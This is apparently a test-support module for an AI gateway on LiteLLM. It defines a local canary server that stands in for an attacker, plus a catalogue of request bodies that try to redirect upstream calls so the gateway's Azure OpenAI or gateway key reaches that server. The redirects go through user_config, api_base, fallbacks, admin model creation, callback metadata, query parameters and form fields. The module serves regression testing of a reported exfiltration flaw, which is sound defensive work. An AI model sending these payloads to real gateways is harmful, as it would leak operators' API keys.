"""Attacks on the gateway, as data: the S1 exfiltration variants (issue 17) and the attacker's
server. Used by tests/gateway/test_gateway_exfiltration.py and bench/security.py; plain Python,
no pytest.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import httpx

from aigw.gateway.render import AZURE_OPENAI_KEY_VAR

AOAI_ENV = f"os.environ/{AZURE_OPENAI_KEY_VAR}"
# The variable that once held the gateway key (now a file beside the guard): still tried.
GATEWAY_ENV = "os.environ/LITELLM_GATEWAY_KEY"


@dataclass
class Canary:
    """The attacker's server: records every request it receives and answers 400 (no retries)."""

    sock: socket.socket = field(default_factory=lambda: socket.socket())
    received: list[bytes] = field(default_factory=list)
    stop: threading.Event = field(default_factory=threading.Event)

    def start(self) -> Canary:
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(32)
        self.sock.settimeout(0.2)
        threading.Thread(target=self._serve, daemon=True).start()
        return self

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.sock.getsockname()[1]}"

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(65536))
                    body = b'{"error":{"message":"canary","code":"400"}}'
                    conn.sendall(
                        b"HTTP/1.1 400 Bad Request\r\nContent-Type: application/json\r\n"
                        + f"Content-Length: {len(body)}\r\n\r\n".encode()
                        + body
                    )
                except OSError:
                    self.received.append(b"<connection>")

    def close(self) -> None:
        self.stop.set()
        self.sock.close()


def variants(embed: str, codex: str, url: str) -> dict[str, tuple[str, str, dict[str, Any]]]:
    """name -> (method, path, JSON body). `url` is the attacker's; each variant its own path."""

    def evil(name: str, key: str = AOAI_ENV) -> dict[str, Any]:
        return {"model": "azure/x", "api_base": f"{url}/{name}", "api_key": key}

    def user_config(name: str) -> dict[str, Any]:
        return {"model_list": [{"model_name": "evil", "litellm_params": evil(name)}]}

    msgs = [{"role": "user", "content": "hi"}]
    v: dict[str, tuple[str, str, dict[str, Any]]] = {
        # the finding as reported: user_config on embeddings and responses
        "user_config embeddings": (
            "POST",
            "/v1/embeddings",
            {"model": "evil", "input": "x", "user_config": user_config("uc-embed")},
        ),
        "user_config responses": (
            "POST",
            "/v1/responses",
            {"model": "evil", "input": "x", "user_config": user_config("uc-resp")},
        ),
        "user_config chat": (
            "POST",
            "/v1/chat/completions",
            {"model": "evil", "messages": msgs, "user_config": user_config("uc-chat")},
        ),
        # a provider model with api_base + api_key in the body (passes LiteLLM's own check)
        "azure model embeddings": ("POST", "/v1/embeddings", {**evil("az-embed"), "input": "x"}),
        "azure model responses": ("POST", "/v1/responses", {**evil("az-resp"), "input": "x"}),
        "azure model chat": ("POST", "/v1/chat/completions", {**evil("az-chat"), "messages": msgs}),
        "gateway key as api_key": (
            "POST",
            "/v1/embeddings",
            {**evil("gw-key", GATEWAY_ENV), "input": "x"},
        ),
        # a configured alias with its upstream overridden from the body
        "alias with api_base": (
            "POST",
            "/v1/embeddings",
            {**evil("alias-embed"), "model": embed, "input": "x"},
        ),
        "alias with base_url": (
            "POST",
            "/v1/responses",
            {
                "model": codex,
                "input": "x",
                "base_url": f"{url}/alias-base-url",
                "api_key": AOAI_ENV,
            },
        ),
        # client-side fallbacks to an upstream of the client's choosing
        "fallbacks": (
            "POST",
            "/v1/chat/completions",
            {
                "model": "does-not-exist",
                "messages": msgs,
                "mock_testing_fallbacks": True,
                "fallbacks": [evil("fallback")],
            },
        ),
        # the Anthropic-shaped route and the Azure-shaped route go through the same router
        "anthropic route": (
            "POST",
            "/v1/messages",
            {**evil("anthropic"), "max_tokens": 5, "messages": msgs},
        ),
        "azure-shaped route": (
            "POST",
            f"/openai/deployments/{embed}/embeddings",
            {**evil("azure-route"), "input": "x"},
        ),
        # admin routes the master key opens: a new model pointing anywhere
        "model/new": (
            "POST",
            "/model/new",
            {"model_name": "evil", "litellm_params": evil("model-new")},
        ),
        # a logging callback's host taken from the body, its key from the environment
        "callback host in metadata": (
            "POST",
            "/v1/embeddings",
            {
                "model": embed,
                "input": "x",
                "metadata": {"langsmith_base_url": f"{url}/cb", "langsmith_api_key": AOAI_ENV},
            },
        ),
    }
    return v


def requests(
    embed: str, codex: str, url: str
) -> dict[str, Callable[[httpx.Client], httpx.Response]]:
    """Every variant as a call on a client that carries the gateway key: the JSON variants,
    then the same settings as query parameters and as a form-encoded body."""
    calls: dict[str, Callable[[httpx.Client], httpx.Response]] = {
        name: (lambda c, m=method, p=path, b=body: c.request(m, p, json=b))
        for name, (method, path, body) in variants(embed, codex, url).items()
    }
    # LiteLLM merges the query into the request data, and parses forms into the same dict.
    calls["query parameters"] = lambda c: c.post(
        "/v1/embeddings",
        params={"api_base": f"{url}/query", "api_key": AOAI_ENV},
        json={"model": embed, "input": "x"},
    )
    calls["form body"] = lambda c: c.post(
        "/v1/embeddings",
        data={"model": embed, "input": "x", "api_base": f"{url}/form", "api_key": AOAI_ENV},
    )
    return calls
